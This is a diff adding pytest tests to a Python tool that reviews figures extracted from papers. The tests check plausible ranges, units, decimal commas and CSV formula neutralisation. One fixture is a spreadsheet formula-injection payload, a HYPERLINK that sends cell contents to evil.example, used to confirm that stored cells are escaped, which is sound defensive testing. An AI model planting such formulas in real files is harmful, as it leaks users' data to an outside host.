@@ -827,3 +827,123 @@ def test_a_kill_while_writing_the_journal_leaves_no_temporary_file(db: sqlite3.C
     (home.annotations_dir / f".{ann.JOURNAL_FILE}.k2j3h4.part").write_text("{")
     assert review.recover(home.annotations_dir) is not None
     assert snapshot(home.annotations_dir) == before
+
+
+# ---------------------------------------------------------------- plausible values, units, decimal commas, formulas
+
+
+@pytest.mark.parametrize("corrected", ["1e300", "5e16"])
+def test_an_implausible_correction_needs_force_and_is_flagged(db: sqlite3.Connection, home: Home, tmp_path: Path,
+                                                              corrected: str) -> None:
+    sheet = write_sheet(tmp_path / "big.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected)])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: corrected_value: implausible: {float(corrected)!r} is outside the plausible range of flops "
+        "(1e4–1e15 FLOPs); check it, or write 'force' in the force column to keep it"]
+    forced = write_sheet(tmp_path / "forced.csv", [row_for(FLOPS, decision="correct", corrected_value=corrected,
+                                                           force="Force")])
+    report = review.import_files(db, home, [forced]).report
+    assert report is not None and len(report.applied) == 1
+    (fact,) = review.load_facts(home.annotations_dir)
+    assert (fact.value, fact.flags) == (float(corrected), "forced")
+    assert read_csv(home.annotations_dir / "imagenet.csv")[0]["flags"] == "forced"
+    assert read_csv(home.annotations_dir / ann.LEDGER_FILE)[0]["force"] == "force"
+    # the flag survives a rebuilt cache and a re-import changes nothing
+    assert review.import_files(db, home, [forced]).report.applied == ()  # type: ignore[union-attr]
+    db.execute("DELETE FROM review_meta")
+    assert review.sync(db, home, force=True)[0].forced
+
+
+def test_implausible_values_of_each_kind_of_row(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    implausible_candidate = Candidate(RESNET, 1, "hardware_count", 512000.0, unit="devices", page=4)
+    extract(db, RESNET, 1, [*resnet_candidates(), implausible_candidate], "imagenet")
+    sheet = write_sheet(tmp_path / "rows.csv", [
+        row_for(implausible_candidate, decision="accept"),
+        {"decision": "add", "arxiv_id": RESNET, "field": "training_time_hours", "value": "20000", "page": "4"},
+        {"decision": "add", "arxiv_id": RESNET, "field": "params", "value": "60e6", "page": "4", "force": "yes"},
+    ])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: value: implausible: 512000 is outside the plausible range of hardware_count (1–1e5 devices); "
+        "check it, or write 'force' in the force column to keep it",
+        f"{sheet}:3: value: implausible: 20000 is outside the plausible range of training_time_hours "
+        "(0.01–17520 hours); check it, or write 'force' in the force column to keep it",
+        f"{sheet}:4: force: write 'force' to keep a value outside its plausible range, or leave it empty "
+        "(the cell has 'yes')",
+    ]
+
+
+def test_an_added_fact_needs_a_unit_of_its_field(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    add = {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "ResNet-50", "page": "5"}
+    sheet = write_sheet(tmp_path / "units.csv", [
+        {**add, "field": "flops", "value": "4.1e9", "unit": "%"},
+        {**add, "field": "flops", "value": "4.1", "unit": "GFLOPs"},
+        {**add, "field": "hardware", "value": "V100", "unit": "GPUs"},
+    ])
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:2: unit: not a unit of flops: '%'; write the value in FLOPs and the unit as FLOPs, FLOP, "
+        "or leave it empty",
+        f"{sheet}:3: unit: not a unit of flops: 'GFLOPs'; write the value in FLOPs and the unit as FLOPs, FLOP, "
+        "or leave it empty",
+        f"{sheet}:3: value: implausible: 4.1 is outside the plausible range of flops (1e4–1e15 FLOPs); check it, "
+        "or write 'force' in the force column to keep it",
+        f"{sheet}:4: unit: not a unit of hardware: 'GPUs'; hardware has no unit; leave it empty",
+    ]
+    ok = write_sheet(tmp_path / "ok.csv", [{**add, "field": "flops", "value": "4.1e9", "unit": "flop"},
+                                           {**add, "field": "hardware_count", "value": "8", "unit": "gpus"}])
+    review.import_files(db, home, [ok])
+    assert sorted((f.field, f.unit) for f in review.load_facts(home.annotations_dir)) == [
+        ("flops", "FLOPs"), ("hardware_count", "devices")]
+
+
+def test_the_plausible_ranges_are_documented_in_one_table() -> None:
+    from flopmine.review.decision import plausible_ranges_table
+
+    docs = (REPO / "docs" / "review.md").read_text(encoding="utf-8")
+    assert plausible_ranges_table() in docs
+    assert "| `flops` | 1e4–1e15 | FLOPs (FLOP) |" in plausible_ranges_table()
+    assert "| `training_time_hours` | 0.01–17520 | hours (h, hrs) |" in plausible_ranges_table()
+
+
+def test_a_file_saved_with_decimal_commas_says_so_once(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    """A German-locale spreadsheet: `;` separators and `42,7`-style numbers in every numeric cell."""
+    review.export(db, home, tmp_path / "out")
+    rows = read_csv(tmp_path / "out" / "imagenet.csv")
+    for r in rows:
+        if r["field"] == "top1_err":
+            r["value"] = r["value"].replace(".", ",")
+        r["decision"] = "accept"
+    buf = io.StringIO()
+    w = csv.DictWriter(buf, fieldnames=list(rows[0]), delimiter=";", lineterminator="\r\n")
+    w.writeheader()
+    w.writerows(rows)
+    sheet = tmp_path / "de.csv"
+    sheet.write_text(buf.getvalue(), encoding="utf-8-sig")
+    lines = [i for i, r in enumerate(rows, 2) if r["field"] == "top1_err"]
+    assert problems_of(db, home, sheet) == [
+        f"{sheet}:{lines[0]}: file: the file uses decimal commas (value '21,43' for 21.43, and 1 more row(s)); "
+        "save it with '.' as the decimal separator (LibreOffice: Tools > Options > Language Settings > Languages, "
+        "Locale setting English (USA); Excel: File > Options > Advanced, untick 'Use system separators', "
+        "decimal separator '.'), then import again"]
+
+
+def test_annotation_files_store_formulas_neutralised(db: sqlite3.Connection, home: Home, tmp_path: Path) -> None:
+    """A note typed as a formula never runs when someone opens annotations/ in a spreadsheet; readers get it back."""
+    from flopmine.analysis.build import read_annotations
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"see table")'
+    sheet = write_sheet(tmp_path / "f.csv", [
+        row_for(FLOPS, decision="accept", note=formula),
+        {"decision": "add", "arxiv_id": RESNET, "benchmark": "imagenet", "model": "-SE", "field": "top1_err",
+         "value": "20.1", "page": "7", "note": "@risk"},
+    ])
+    review.import_files(db, home, [sheet])
+    for name in ("imagenet.csv", ann.LEDGER_FILE):
+        raw = (home.annotations_dir / name).read_text(encoding="utf-8")
+        cells = [c for row in csv.reader(io.StringIO(raw)) for c in row]
+        assert "'" + formula in cells and "'-SE" in cells and "'@risk" in cells, name
+        assert not any(c.startswith(("=", "@", "+")) or (c.startswith("-") and c != "-") for c in cells
+                       if not c.replace(".", "").replace("-", "").replace("e", "").isdigit()), name
+    by_model = {f.model: f for f in review.load_facts(home.annotations_dir)}
+    assert by_model["ResNet-152"].note == formula and by_model["-SE"].note == "@risk"
+    facts, _ = read_annotations(home.annotations_dir)  # what the analysis build reads
+    assert {f.model: f.note for f in facts} == {"ResNet-152": formula, "-SE": "@risk"}
+    assert review.import_files(db, home, [sheet]).report.applied == ()  # type: ignore[union-attr]
